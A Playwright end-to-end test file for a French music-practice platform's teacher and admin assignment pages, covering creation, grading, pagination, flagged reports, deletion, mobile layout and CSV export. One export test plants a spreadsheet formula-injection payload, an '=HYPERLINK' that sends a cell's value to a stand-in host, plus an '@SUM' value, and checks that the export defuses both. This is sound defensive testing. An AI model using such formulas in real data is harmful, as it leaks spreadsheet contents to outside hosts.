import { readFile } from 'node:fs/promises';
import type { Locator, Page } from 'playwright-core';
import { listAssignmentsRoute, submitAssignmentRoute } from '@crescendo/contracts';
import { CookieJar, signInWithPassword, type RunningPlatform } from '@crescendo/testing';
import {
  axeViolations,
  demo,
  demoPassword,
  openJourney,
  overflowPast,
  portal,
  signInAt,
  type Journey,
} from '../src/index.js';

// The teacher's 'Assigner une Pratique' and the admin's 'Pratiques', against the whole platform and its demo
// practice (six weeks of reports, assignments past and upcoming, one report flagged far above its student's usual).
let journey: Journey;
let platform: RunningPlatform;

beforeAll(async () => {
  journey = await openJourney();
  platform = journey.platform;
});

afterAll(() => journey?.close());

const title = `Gammes chromatiques ${Date.now().toString(36)}`;

/** A `datetime-local` value on the school's clock (America/Toronto), whatever the machine's zone. */
function torontoLocal(instant: Date): string {
  const parts = new Intl.DateTimeFormat('en-CA', {
    timeZone: 'America/Toronto',
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
    hour: '2-digit',
    minute: '2-digit',
    hourCycle: 'h23',
  }).formatToParts(instant);
  const part = (type: string) => parts.find((p) => p.type === type)!.value;
  return `${part('year')}-${part('month')}-${part('day')}T${part('hour')}:${part('minute')}`;
}

/** What a student's own client does: a real token from the provider, then the contract's route. */
async function asStudent(email: string) {
  const { tokens } = await signInWithPassword({
    base: `${platform.origin}/realms/crescendo`,
    jar: new CookieJar(),
    clientId: 'crescendo-web',
    redirectUri: `${platform.origin}/dashboard`,
    email,
    password: demoPassword,
  });
  return async (method: string, path: string, body?: unknown) => {
    const response = await fetch(`${platform.origin}/api/v1${path}`, {
      method,
      headers: {
        authorization: `Bearer ${tokens.access_token}`,
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  };
}

const card = (root: Locator, name: string) => root.getByRole('listitem', { name, exact: true });

async function expectAxeClean(page: Page) {
  await expect(axeViolations(page)).resolves.toEqual([]);
}

describe('Assigner une Pratique, for the teacher', () => {
  it('creates an assignment for chosen students (all fields required), then its status moves to En retard once due', async () => {
    const page = await journey.sessions.newPage();
    // The page's clock runs on from now, and the test can move it forward.
    await page.clock.install();
    await signInAt(page, platform.origin, '/teacher/devoirs', demo.teacher);
    const teacher = portal(page, 'teacher');
    await teacher.getByRole('heading', { name: 'Assigner une Pratique', level: 1 }).waitFor();
    // The demo's assignments of the teacher's three groups.
    await card(teacher, 'Gammes et arpèges').first().waitFor();
    await expect(card(teacher, 'Gammes et arpèges').count()).resolves.toBe(3);
    await expectAxeClean(page);

    const creations: string[] = [];
    page.on('request', (request) => {
      if (request.method() === 'POST' && request.url().endsWith('/api/v1/assignments'))
        creations.push(request.url());
    });
    await teacher.getByRole('button', { name: 'Nouveau Devoir' }).click();
    let dialog = page.getByRole('dialog', { name: 'Nouveau Devoir' });
    await dialog.getByRole('button', { name: 'Assigner' }).click();
    await dialog.getByText('Le titre est requis.').waitFor();
    await dialog.getByText('La description est requise.').waitFor();
    await dialog.getByText('Choisissez un groupe.').waitFor();
    await dialog.getByText("La date et l'heure d'échéance sont requises.").waitFor();
    expect(creations).toEqual([]);

    await dialog.getByLabel('Titre', { exact: true }).fill(title);
    await dialog.getByLabel('Description', { exact: true }).fill('Deux octaves, à 80 à la noire.');
    await dialog.getByLabel('Groupe', { exact: true }).selectOption({ label: 'MUS212 — Harmonie' });
    // Due between one and two minutes from now (the picker has minutes, no seconds).
    await dialog.getByLabel("Date et heure d'échéance").fill(torontoLocal(new Date(Date.now() + 2 * 60_000)));
    // A group linked to no Classroom course: the send is off and says why (issue 32 §6).
    await expect(dialog.getByLabel('Envoyer vers Google Classroom').isChecked()).resolves.toBe(false);
    await expect(dialog.getByLabel('Envoyer vers Google Classroom').isDisabled()).resolves.toBe(true);
    await dialog.getByText("Ce groupe n'est lié à aucun cours Google Classroom").waitFor();
    await dialog.getByLabel('Certains élèves').check();
    await dialog.getByRole('button', { name: 'Assigner' }).click();
    await dialog.getByText('Choisissez au moins un élève.').waitFor();
    await dialog.getByLabel('Tout sélectionner').check();
    for (const name of ['Léa Roy', 'Noah Côté', 'Emma Bouchard'])
      await expect(dialog.getByLabel(name).isChecked()).resolves.toBe(true);
    await dialog.getByLabel('Léa Roy').uncheck();
    await expect(dialog.getByLabel('Tout sélectionner').isChecked()).resolves.toBe(false);
    await expectAxeClean(page);
    // Refused for another reason than a field (here the network): the spec's toast, its generic message in
    // the form, and what was typed kept for another try.
    await page.route('**/api/v1/assignments', (route) =>
      route.request().method() === 'POST' ? route.abort('connectionreset') : route.continue(),
    );
    await dialog.getByRole('button', { name: 'Assigner' }).click();
    await page.getByText("Erreur lors de l'ajout du devoir.", { exact: true }).waitFor();
    await dialog.getByRole('alert').filter({ hasText: 'Erreur lors de la sauvegarde du devoir' }).waitFor();
    await expect(dialog.getByLabel('Titre', { exact: true }).inputValue()).resolves.toBe(title);
    await page.unroute('**/api/v1/assignments');
    creations.length = 0;
    await dialog.getByRole('button', { name: 'Assigner' }).click();
    await page.getByText('Devoir ajouté', { exact: true }).waitFor();
    await dialog.waitFor({ state: 'detached' });
    expect(creations).toHaveLength(1);

    const created = card(teacher, title);
    await created.getByText('Actif', { exact: true }).waitFor();
    await expect(created.getByTestId('submitted-count').innerText()).resolves.toBe('0');
    await expect(created.getByTestId('waiting-count').innerText()).resolves.toBe('2');
    await expect(created.getByTestId('total-count').innerText()).resolves.toBe('2');

    // Opened again, the form starts empty.
    await teacher.getByRole('button', { name: 'Nouveau Devoir' }).click();
    dialog = page.getByRole('dialog', { name: 'Nouveau Devoir' });
    await expect(dialog.getByLabel('Titre', { exact: true }).inputValue()).resolves.toBe('');
    await expect(dialog.getByLabel('Groupe', { exact: true }).inputValue()).resolves.toBe('');
    await dialog.getByRole('button', { name: 'Annuler' }).click();

    await page.clock.fastForward('03:00');
    await created.getByText('En retard', { exact: true }).waitFor({ timeout: 30_000 });
  });

  it('shows statistics and the help, then a student’s submission in the details, and grades it', async () => {
    const student = await asStudent('eleve2@demo.crescendo.ca');
    const mine = await student('GET', listAssignmentsRoute.path);
    const assignment = (mine.body.assignments as { id: string; title: string }[]).find(
      (a) => a.title === title,
    )!;
    const submitted = await student(
      'POST',
      submitAssignmentRoute.path.replace(':assignmentId', assignment.id),
      {
        practiceDate: torontoLocal(new Date()).slice(0, 10),
        duration: 35,
        location: 'school',
        content: 'Gammes chromatiques sur deux octaves',
        nextGoals: 'Accélérer à 90',
      },
    );
    expect(submitted.status).toBe(201);

    const page = await journey.sessions.signedIn(demo.teacher, '/teacher/devoirs');
    const teacher = portal(page, 'teacher');
    const created = card(teacher, title);
    await expect(created.getByTestId('submitted-count').innerText()).resolves.toBe('1');
    await expect(created.getByTestId('waiting-count').innerText()).resolves.toBe('1');

    await teacher.getByRole('button', { name: 'Afficher les statistiques' }).click();
    const statistics = teacher.getByRole('region', { name: 'Statistiques des pratiques assignées' });
    await statistics.getByText('Taux de remise').waitFor();
    await teacher.getByRole('button', { name: 'Masquer les statistiques' }).click();
    await statistics.waitFor({ state: 'detached' });

    await teacher.getByRole('button', { name: 'Aide' }).click();
    const help = page.getByRole('dialog', { name: 'Assigner une Pratique' });
    await help
      .getByText('Un rapport qui semble improbable est signalé, jamais refusé', { exact: false })
      .waitFor();
    await help.getByRole('button', { name: 'Fermer' }).click();

    await created.getByRole('button', { name: `Détails — ${title}` }).click();
    const details = page.getByRole('dialog', { name: title });
    const submission = details.getByRole('listitem', { name: 'Noah Côté' });
    await submission.getByText('Gammes chromatiques sur deux octaves').waitFor();
    await submission.getByText('Non notée').waitFor();
    await details.getByText('Emma Bouchard').waitFor(); // not submitted yet
    await expectAxeClean(page);

    await submission.getByRole('button', { name: 'Noter — Noah Côté' }).click();
    await submission.getByLabel('Note (sur 100)').fill('101');
    await submission.getByRole('button', { name: 'Enregistrer' }).click();
    await submission.getByText('La note est un nombre entier entre 0 et 100.').waitFor();
    await submission.getByLabel('Note (sur 100)').fill('92');
    await submission.getByLabel('Commentaire (facultatif)').fill('Très régulier, bravo !');
    await submission.getByRole('button', { name: 'Enregistrer' }).click();
    await page.getByText('Note enregistrée', { exact: true }).waitFor();
    await submission.getByText('92/100').waitFor();
    await submission.getByText('Très régulier, bravo !').waitFor();

    // The student reads the grade and the comment.
    const seen = await student('GET', `/assignments/${assignment.id}`);
    const own = (seen.body.submissions as { grade: number; feedback: string }[])[0]!;
    expect([own.grade, own.feedback]).toEqual([92, 'Très régulier, bravo !']);
  });

  it('loads the assignments a page at a time (Charger plus); the statistics count them all from the first page', async () => {
    const page = await journey.sessions.newPage();
    // Pages of 2: the demo's assignments and this file's take several.
    await page.route(
      (url) => url.pathname === '/api/v1/assignments',
      (route) => {
        if (route.request().method() !== 'GET') return route.continue();
        const url = new URL(route.request().url());
        url.searchParams.set('limit', '2');
        return route.continue({ url: url.toString() });
      },
    );
    await signInAt(page, platform.origin, '/teacher/devoirs', demo.teacher);
    const teacher = portal(page, 'teacher');
    const cards = teacher.getByRole('list', { name: 'Pratiques assignées' }).getByRole('listitem');
    await cards.first().waitFor();
    await expect(cards.count()).resolves.toBe(2);
    await teacher.getByRole('button', { name: 'Afficher les statistiques' }).click();
    const statistics = teacher.getByRole('region', { name: 'Statistiques des pratiques assignées' });
    const figure = (label: string) =>
      statistics
        .locator('div')
        .filter({ has: page.getByText(label, { exact: true }) })
        .locator('dd');
    const total = Number(await figure('Devoirs').innerText());
    expect(total).toBeGreaterThan(2);
    const loadMore = teacher.getByRole('button', { name: 'Charger plus' });
    for (let loaded = 2; loaded < total; loaded = Math.min(loaded + 2, total)) {
      await loadMore.click();
      await cards.nth(Math.min(loaded + 2, total) - 1).waitFor();
      // Counted by the server: the same whatever was loaded.
      await expect(figure('Devoirs').innerText()).resolves.toBe(String(total));
    }
    await loadMore.waitFor({ state: 'detached' });
    await card(teacher, title).waitFor();
  });

  it('deletes an assignment only after a confirmation that warns about its submissions', async () => {
    const page = await journey.sessions.signedIn(demo.teacher, '/teacher/devoirs');
    const teacher = portal(page, 'teacher');
    const created = card(teacher, title);
    await created.getByRole('button', { name: `Supprimer — ${title}` }).click();
    const confirm = page.getByRole('dialog', { name: 'Supprimer le devoir ?' });
    await confirm
      .getByText(
        `Le devoir « ${title} » et toutes les soumissions des élèves seront supprimés aussi. Cette action est irréversible.`,
      )
      .waitFor();
    await confirm.getByRole('button', { name: 'Annuler' }).click();
    await created.waitFor();

    await created.getByRole('button', { name: `Supprimer — ${title}` }).click();
    await page
      .getByRole('dialog', { name: 'Supprimer le devoir ?' })
      .getByRole('button', { name: 'Supprimer' })
      .click();
    await page.getByText('Devoir supprimé', { exact: true }).waitFor();
    await created.waitFor({ state: 'detached' });
  });

  it('shows why a report is flagged and lets the teacher dismiss the flag', async () => {
    const page = await journey.sessions.signedIn(demo.teacher, '/teacher/devoirs');
    const followUp = portal(page, 'teacher').getByRole('region', { name: 'Suivi de la pratique' });
    await followUp.getByLabel('Groupe', { exact: true }).selectOption({ label: 'MUS212 — Harmonie' });
    const flagged = followUp.getByRole('row').filter({ hasText: 'Tout le concert, plusieurs fois' });
    await flagged.getByText('Signalé', { exact: true }).waitFor();
    await flagged.getByText("Durée bien au-dessus de l'habitude de l'élève", { exact: false }).waitFor();
    await expect(flagged.getByRole('rowheader').innerText()).resolves.toBe('Noah Côté');
    await followUp.getByRole('img', { name: /Minutes de pratique par élève sur la période/ }).waitFor();
    await expectAxeClean(page);

    await flagged.getByRole('button', { name: /^Retirer le signalement — Noah Côté/ }).click();
    await page.getByText('Signalement retiré', { exact: true }).waitFor();
    await flagged.getByText('Aucun', { exact: true }).waitFor();
    await expect(flagged.getByText('Signalé', { exact: true }).count()).resolves.toBe(0);

    // One student: their reports only, and their submissions with the grade the demo gave.
    await followUp.getByLabel('Élève', { exact: true }).selectOption({ label: 'Léa Roy' });
    await expect(followUp.getByRole('rowheader').filter({ hasText: 'Noah Côté' }).count()).resolves.toBe(0);
    const submissions = followUp.getByRole('region', { name: 'Soumissions de Léa Roy' });
    const graded = submissions.getByRole('listitem', { name: 'Gammes et arpèges' });
    await graded.getByText('88/100').waitFor();
    await graded.getByText('Beau travail sur les nuances !').waitFor();
    await expectAxeClean(page);
  });

  it('exports a group’s practice of a period as a CSV a French spreadsheet opens', async () => {
    // Issue 34.4: a student's text that a spreadsheet would run as a formula, across lines or after a tab.
    const formula = '=HYPERLINK("https://exemple.invalid/?d="&C2,\n"Cliquez ici")';
    const emma = await asStudent('eleve3@demo.crescendo.ca');
    const sent = await emma('POST', '/practice-reports', {
      practiceDate: new Date().toLocaleDateString('en-CA', { timeZone: 'America/Toronto' }),
      duration: 20,
      location: 'home',
      content: formula,
      nextGoals: '  @SUM(1+1)\tpuis +1',
    });
    expect(sent.status).toBe(201);
    const page = await journey.sessions.signedIn(demo.teacher, '/teacher/devoirs');
    const followUp = portal(page, 'teacher').getByRole('region', { name: 'Suivi de la pratique' });
    await followUp.getByLabel('Groupe', { exact: true }).selectOption({ label: 'MUS212 — Harmonie' });
    await followUp.getByLabel('Période').selectOption({ label: '15 derniers jours' });
    await followUp.getByRole('table').waitFor();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      followUp.getByRole('button', { name: 'Exporter en CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(
      /^pratique-MUS212-Harmonie-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}\.csv$/,
    );
    const text = await readFile((await download.path())!, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).split('\r\n');
    expect(lines[0]).toBe(
      'Date;Élève;Courriel;Durée (minutes);Durée (heures);Lieu;Type;Devoir;Contenu;Prochains objectifs;Soumis le;Signalements',
    );
    const rows = lines.slice(1);
    expect(rows.length).toBeGreaterThan(5);
    const [, from, to] = /pratique-MUS212-Harmonie-(\d{4}-\d{2}-\d{2})-(\d{4}-\d{2}-\d{2})/.exec(
      download.suggestedFilename(),
    )!;
    for (const row of rows) {
      const [date, student] = row.split(';');
      expect(date! >= from! && date! <= to!).toBe(true);
      expect(['Léa Roy', 'Noah Côté', 'Emma Bouchard']).toContain(student);
    }
    // Hours with a decimal comma where the minutes are not whole hours.
    expect(rows.some((row) => /;\d+;\d+,\d{1,2};/.test(row))).toBe(true);
    // The formula comes out as text: quoted, a single quote first, never a live '=' or '@' at a cell's start.
    expect(text).toContain(`;"'${formula.replaceAll('"', '""')}";`);
    expect(text).toContain(`;"'@SUM(1+1)\tpuis +1";`);
    expect(text).not.toMatch(/(^|;|\r\n)"?=HYPERLINK/);
  });

  it('works at 390 px wide: the list, the form and the follow-up fit the screen', async () => {
    const page = await journey.sessions.signedIn(demo.teacher, '/teacher/devoirs');
    await page.setViewportSize({ width: 390, height: 844 });
    const teacher = portal(page, 'teacher');
    await card(teacher, 'Gammes et arpèges').first().waitFor();
    const overflow = () => overflowPast(page, 390);
    await expect(overflow()).resolves.toBeLessThanOrEqual(0);
    await expectAxeClean(page);
    await teacher.getByRole('button', { name: 'Nouveau Devoir' }).click();
    const dialog = page.getByRole('dialog', { name: 'Nouveau Devoir' });
    await dialog.getByLabel("Date et heure d'échéance").waitFor();
    const box = (await dialog.boundingBox())!;
    expect(box.x).toBeGreaterThanOrEqual(0);
    expect(box.x + box.width).toBeLessThanOrEqual(390);
    await expectAxeClean(page);
    await dialog.getByRole('button', { name: 'Annuler' }).click();
    const followUp = teacher.getByRole('region', { name: 'Suivi de la pratique' });
    await followUp.getByLabel('Groupe', { exact: true }).selectOption({ label: 'MUS416 — Jazz' });
    await followUp.getByRole('table').waitFor();
    await expect(overflow()).resolves.toBeLessThanOrEqual(0);
  });
});

describe('Pratiques, for the admin', () => {
  it('shows the organisation’s assignments with no group preselected', async () => {
    const page = await journey.sessions.signedIn(demo.admin, '/admin/devoirs');
    const admin = portal(page, 'admin');
    await admin.getByRole('heading', { name: 'Pratiques', level: 1 }).waitFor();
    await card(admin, 'Gammes et arpèges').first().waitFor();
    await expect(card(admin, 'Gammes et arpèges').count()).resolves.toBe(3);
    await expect(card(admin, 'Pièce au choix, par cœur').count()).resolves.toBe(3);
    const followUp = admin.getByRole('region', { name: 'Suivi de la pratique' });
    await expect(followUp.getByLabel('Groupe', { exact: true }).inputValue()).resolves.toBe('');
    await followUp.getByText('Choisissez un groupe pour suivre sa pratique.').waitFor();
    await expectAxeClean(page);
  });
});
